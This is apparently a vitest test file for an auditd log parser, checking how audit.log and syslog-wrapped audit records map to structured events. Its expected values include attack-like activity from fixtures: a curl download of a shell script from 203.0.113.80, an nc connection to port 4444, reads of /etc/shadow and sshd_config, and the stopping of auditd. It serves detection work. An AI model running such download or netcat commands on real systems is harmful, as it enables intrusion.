import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ParseError } from '../../core/errors.js';
import { sniffFormat } from '../sniff-format.js';
import { jsonParser } from '../json/index.js';
import { syslogParser } from '../syslog/index.js';
import { auditdParser, readAuditFields, sniffAuditd } from './index.js';

/** Composed audit.log lines in the shapes RHEL/Debian auditd 3.x write (see fixtures/). */
const read = (name: string) => readFileSync(fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url)), 'utf8').split('\n').filter((l) => l.length > 0);
const parser = auditdParser.build(auditdParser.config.parse({}), { dataDir: '/tmp' });
const REF = Date.UTC(2026, 0, 5, 12);
const parse = (data: string, n = 1) => parser.parse({ data, source: 'file:/var/log/audit/audit.log', offset: n, receivedAt: REF, referenceTime: REF })[0]!;
const ev = (action: string, category: string[] | undefined, type: string[], outcome?: string) => ({
  kind: 'event', module: 'auditd', dataset: 'auditd.log', action, ...(category ? { category } : {}), type, ...(outcome ? { outcome } : {}),
});

const EXPECTED: Record<number, Record<string, unknown>> = {
  1: {
    '@timestamp': '2013-03-28T14:36:03.243Z', event: ev('syscall', ['process'], ['info'], 'failure'),
    process: { pid: 3538, parent: { pid: 2686 }, name: 'cat', executable: '/bin/cat' },
    user: { id: '1000', audit: { id: '1000' } }, tags: ['sshd_config'],
    auditd: { sequence: 24287, record_type: 'SYSCALL', session: '1', data: { syscall: '2', exit: '-13', a0: '7fffd19c5592', key: 'sshd_config' } },
  },
  2: { event: ev('cwd', ['process'], ['info']), process: { working_directory: '/home/shadowman' }, auditd: { sequence: 24287 } },
  3: { event: ev('path', ['file'], ['info']), file: { path: '/etc/ssh/sshd_config', inode: '409248', mode: '0100600', uid: '0', gid: '0' } },
  4: { event: ev('proctitle', ['process'], ['info']), process: { title: 'cat /etc/ssh/sshd_config', command_line: 'cat /etc/ssh/sshd_config' } },
  5: { event: ev('syscall', ['process'], ['info'], 'success'), process: { name: 'curl', pid: 4187 }, tags: ['exec_net'] },
  6: { event: ev('execve', ['process'], ['start']), process: { args: ['curl', '-so', '/tmp/x sh.sh', 'http://203.0.113.80/x.sh'], command_line: 'curl -so /tmp/x sh.sh http://203.0.113.80/x.sh' }, auditd: { sequence: 5001 } },
  7: { file: { path: '/usr/bin/curl' } },
  8: {
    event: ev('user_login', ['authentication', 'session'], ['start'], 'failure'), user: { name: 'root' }, source: { ip: '203.0.113.9' },
    process: { pid: 4242, executable: '/usr/sbin/sshd', name: 'sshd' }, related: { user: ['root'], ip: ['203.0.113.9'] },
    auditd: { data: { op: 'login', terminal: 'ssh', res: 'failed' } },
  },
  9: { event: ev('user_login', ['authentication', 'session'], ['start'], 'failure'), wardwatch: { invalid_user: true }, source: { ip: '203.0.113.9' }, auditd: { data: { acct: '(invalid user)' } } },
  10: { event: ev('user_login', ['authentication', 'session'], ['start'], 'success'), user: { id: '1001', audit: { id: '1001' } }, source: { ip: '198.51.100.7' }, auditd: { session: '12' } },
  11: { event: ev('user_auth', ['authentication'], ['info'], 'success'), user: { name: 'alice', audit: { id: '1000' } }, process: { executable: '/usr/bin/sudo' }, auditd: { data: { op: 'PAM:authentication', grantors: 'pam_unix' } } },
  12: { event: ev('user_acct', ['authentication'], ['info'], 'success'), user: { name: 'alice' } },
  13: { event: ev('user_cmd', ['process'], ['start'], 'success'), user: { id: '1000', audit: { id: '1000' } }, process: { command_line: 'systemctl restart nginx', working_directory: '/home/alice', executable: '/usr/bin/sudo' } },
  14: { event: ev('cred_refr', ['authentication'], ['info'], 'success'), user: { name: 'root', audit: { id: '1000' } } },
  15: { event: ev('user_start', ['session'], ['start'], 'success'), user: { name: 'root' } },
  16: { event: ev('user_auth', ['authentication'], ['info'], 'failure'), user: { name: 'mallory', audit: { id: '1002' } } },
  17: { event: ev('add_group', ['iam'], ['group', 'creation'], 'success'), group: { name: 'bob' }, user: { id: '0', audit: { id: '1000' } } },
  18: { event: ev('add_user', ['iam'], ['user', 'creation'], 'success'), user: { id: '0', audit: { id: '1000' }, target: { name: 'bob' } }, related: { user: ['bob'] } },
  19: { event: ev('user_chauthtok', ['iam'], ['user', 'change'], 'success'), user: { target: { name: 'bob' } } },
  20: { event: ev('del_user', ['iam'], ['user', 'deletion'], 'success'), user: { target: { id: '1002' } } },
  21: {
    event: ev('avc', ['process'], ['access', 'denied'], 'failure'), process: { pid: 7001, name: 'httpd' }, file: { path: 'shadow' },
    auditd: { avc: { result: 'denied', permissions: ['read'] }, data: { scontext: 'system_u:system_r:httpd_t:s0', tclass: 'file' } },
  },
  22: {
    event: ev('syscall', ['process'], ['info'], 'success'), user: { id: '0', name: 'root', audit: { id: '1000', name: 'alice' } }, related: { user: ['root', 'alice'] },
    auditd: { interpreted: { ARCH: 'x86_64', SYSCALL: 'execve', AUID: 'alice', UID: 'root' } },
  },
  23: { event: ev('config_change', ['configuration'], ['change'], 'success'), tags: ['sshd_config'], auditd: { data: { op: 'remove_rule' } } },
  24: { event: ev('service_stop', ['process'], ['end'], 'success'), process: { name: 'systemd', pid: 1 }, auditd: { data: { unit: 'auditd' } } },
  25: { event: ev('login', ['session'], ['info'], 'success'), host: { name: 'db01.hospital.example' }, user: { id: '0', audit: { id: '1001' } }, auditd: { sequence: 7000 } },
  26: { event: ev('syscall', ['process'], ['info'], 'success'), process: { name: 'nc', executable: '/usr/bin/nc.openbsd' }, tags: ['net_connect'], auditd: { data: { syscall: '42' } } },
  27: { event: ev('sockaddr', ['network'], ['info']), destination: { ip: '203.0.113.80', port: 4444 }, auditd: { sequence: 7100, data: { saddr_family: 'inet' } } },
  28: { destination: { ip: '2001:db8::1', port: 443 }, auditd: { data: { saddr_family: 'inet6' } } },
  29: { file: { path: '/run/systemd/journal/socket' }, auditd: { data: { saddr_family: 'unix' } } },
};

describe('auditd: composed audit.log fixture', () => {
  const lines = read('audit.log');
  it('has an expectation for every line', () => {
    expect(Object.keys(EXPECTED).map(Number)).toEqual(lines.map((_, i) => i + 1));
  });
  it.each(lines.map((l, i) => [i + 1, l] as const))('line %i', (n, line) => {
    const e = parse(line, n);
    expect(e).toMatchObject(EXPECTED[n]!);
    expect(e['@timestamp']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });
  it('keeps SYSCALL register arguments as hex, and takes the event time from audit(…)', () => {
    const e = parse(lines[4]!);
    expect((e.auditd as any).data.a0).toBe('55d0c1e2a0');
    expect(e['@timestamp']).toBe('2026-01-05T10:00:01.120Z');
  });
});

describe('auditd: syslog envelopes', () => {
  const [audispd, kernel, journal, rfc5424] = read('audit-syslog.log');
  it('audispd with node=', () => {
    expect(parse(audispd!)).toMatchObject({
      '@timestamp': '2026-01-05T10:16:00.500Z', host: { name: 'web01' }, event: { action: 'user_login', outcome: 'success' },
      log: { syslog: { appname: 'audispd', hostname: 'web01' } }, auditd: { sequence: 5050 },
    });
  });
  it('kernel printk with a numeric type (AppArmor)', () => {
    expect(parse(kernel!)).toMatchObject({
      '@timestamp': '2026-01-05T10:15:00.123Z', host: { name: 'web01' }, event: { action: 'avc', outcome: 'failure', type: ['access', 'denied'] },
      file: { path: '/etc/shadow' }, process: { name: 'cupsd', pid: 812 }, auditd: { record_type: 'AVC', sequence: 88, avc: { result: 'denied', permissions: ['r'] } },
    });
  });
  it("journald's audit[pid]: TYPE form (no serial; envelope time)", () => {
    const e = parse(journal!);
    expect(e).toMatchObject({ '@timestamp': '2026-01-05T10:17:00.000Z', event: { action: 'user_end', category: ['session'], outcome: 'success' }, user: { name: 'alice' }, source: { ip: '198.51.100.7' } });
    expect((e.auditd as any).sequence).toBeUndefined();
  });
  it('RFC 5424 from audisp-syslog', () => {
    expect(parse(rfc5424!)).toMatchObject({ host: { name: 'web02' }, event: { action: 'add_user', outcome: 'failure' }, user: { target: { name: 'eve' } } });
  });
});

describe('auditd: errors, fields, sniffing', () => {
  it('dead-letters lines without an audit record, saying what and where', () => {
    expect(() => parse('hello world', 9)).toThrow(new ParseError('not an audit record: expected "type=… msg=audit(…)" or a syslog line carrying one (not a syslog line: expected "<PRI>", an RFC 3164 timestamp like "Oct 11 22:14:15" or an ISO 8601 timestamp at the start)', 'file:/var/log/audit/audit.log:9'));
    expect(() => parse('Jan  5 10:00:00 web01 sshd[1]: Accepted password for x', 2)).toThrow('file:/var/log/audit/audit.log:2: no audit record header "type=TYPE msg=audit(SECONDS.MILLIS:SERIAL):" in the line (syslog program "sshd")');
    expect(() => parse('type=SYSCALL msg=audit(abc:1): x=1')).toThrow(ParseError);
  });

  it('reads quoting, hex and nested msg without letting inner fields overwrite outer ones', () => {
    const out = { fields: {} as Record<string, string>, interpreted: {} as Record<string, string> };
    readAuditFields(`pid=1 res=success msg='op=x res=failed name=2F746D70' cmd=6C73 comm="a b"`, 0, out, false);
    expect(out.fields).toEqual({ pid: '1', res: 'success', op: 'x', name: '/tmp', cmd: 'ls', comm: 'a b' });
  });

  it('stays linear on a record of many bare words', () => {
    const e = parse(`type=AVC msg=audit(1.0:1): ${'word '.repeat(100_000)}pid=1`);
    expect(e.process).toEqual({ pid: 1 });
  });

  it('sniffs audit lines, bare or in syslog, and not other logs', () => {
    expect(sniffAuditd(read('audit.log'))).toBe(1);
    expect(sniffAuditd(read('audit-syslog.log'))).toBeGreaterThan(0.7);
    expect(sniffAuditd(['Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster', '{"a":1}'])).toBe(0);
    // Registered before syslog, auditd wins the tie on audispd files; syslog keeps mixed files.
    const defs = [auditdParser, syslogParser, jsonParser];
    expect(sniffFormat(defs, read('audit.log'))).toBe('auditd');
    expect(sniffFormat(defs, read('audit-syslog.log').slice(0, 2))).toBe('auditd');
    expect(sniffFormat(defs, [read('audit-syslog.log')[0]!, 'Jan  5 10:00:00 web01 sshd[1]: Accepted password for a from 10.0.0.1 port 2 ssh2'])).toBe('syslog');
  });

  it('yields an event or a ParseError for random and truncated input', () => {
    const all = [...read('audit.log'), ...read('audit-syslog.log')];
    const line = fc.constantFrom(...all);
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.tuple(line, fc.nat()).map(([l, n]) => l.slice(0, n % (l.length + 1))), fc.tuple(line, fc.nat(), fc.string({ maxLength: 8 })).map(([l, n, s]) => l.slice(0, n % l.length) + s + l.slice(n % l.length))), (data) => {
        try {
          const out = parser.parse({ data, source: 'x', receivedAt: REF });
          expect(out).toHaveLength(1);
          expect(Number.isNaN(Date.parse(out[0]!['@timestamp']))).toBe(false);
        } catch (err) {
          expect(err).toBeInstanceOf(ParseError);
        }
      }),
      { numRuns: 3000 },
    );
  });
});
